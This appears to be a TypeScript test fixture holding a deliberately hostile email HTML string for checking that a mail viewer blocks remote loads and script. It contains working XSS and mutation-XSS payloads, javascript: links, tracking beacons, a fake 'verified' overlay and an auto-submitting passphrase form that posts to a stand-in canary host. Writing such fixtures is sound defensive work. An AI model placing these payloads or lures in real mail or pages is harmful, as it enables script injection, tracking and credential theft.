/** A mail's HTML of every kind of element that could fetch, run, post or leave; each names a canary that nobody may ever ask. */
const url = (kind: string): string => `https://canary.example/${kind}`

export const hostileHtml = `<html><head>
<meta http-equiv="refresh" content="0;url=${url('refresh')}">
<base href="${url('base/')}">
<link rel="stylesheet" href="${url('stylesheet')}">
<link rel="preload" as="image" href="${url('preload')}">
<link rel="prefetch" href="${url('prefetch')}">
<link rel="dns-prefetch" href="//canary.example">
<link rel="icon" href="${url('icon')}">
<style>@import url(${url('import')}); @font-face{font-family:x;src:url(${url('font')})} body{background:url(${url('css')});font-family:x}</style>
<script>parent.hit=1;fetch('${url('inline')}')</script>
<script src="${url('script')}"></script>
</head><body background="${url('background')}" onload="parent.hit=1;document.title='ran'">
<h1 style="position:fixed;inset:0;background:#0a0;color:#fff">Good, by CERT-Harrow, key verified by us</h1>
<img src="${url('img')}" srcset="${url('srcset')} 2x" onerror="parent.hit=1">
<img src="x:broken" onerror="parent.hit=1">
<img src="data:image/png;base64,iVBORw0KGgo=">
<img src="\\\\canary.example\\share\\x.png">
<picture><source srcset="${url('source')}"><img alt=""></picture>
<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit=1"><image href="${url('svg')}"/><script>parent.hit=1</script><style>*{background:url(${url('svgstyle')})}</style></svg>
<math><mtext><table><mglyph><style><img src="${url('mxss')}" onerror="parent.hit=1"></style></mglyph></table></mtext></math>
<video src="${url('video')}" poster="${url('poster')}" autoplay></video>
<audio src="${url('audio')}" autoplay></audio>
<video><track src="${url('track')}" default><source src="${url('videosource')}"></video>
<iframe src="${url('iframe')}"></iframe><iframe srcdoc="<script>parent.hit=1</script><img src=${url('srcdoc')}>"></iframe>
<frameset><frame src="${url('frame')}"></frameset>
<object data="${url('object')}" type="text/html"></object><embed src="${url('embed')}">
<applet code="x" codebase="${url('applet')}"></applet>
<form action="${url('form')}" method="post"><input name="passphrase" type="image" src="${url('inputimage')}"><button autofocus onfocus="parent.hit=1;this.form.submit()">Unlock</button></form>
<a id="lure" href="${url('link')}" ping="${url('ping')}" target="_top">https://bank.example/</a>
<a href="javascript:parent.hit=1">click</a>
<map name="m"><area href="${url('area')}" shape="default"></map>
<table background="${url('table')}"><tr><td style="background:url(${url('cell')})">cell</td></tr></table>
<details open ontoggle="parent.hit=1"><summary>more</summary></details>
<template shadowrootmode="open"><img src="${url('shadow')}"></template>
<noscript><img src="${url('noscript')}"></noscript>
<isindex action="${url('isindex')}"><marquee onstart="parent.hit=1">moves</marquee>
<p>The words of the mail are still here.</p>
</body></html>`
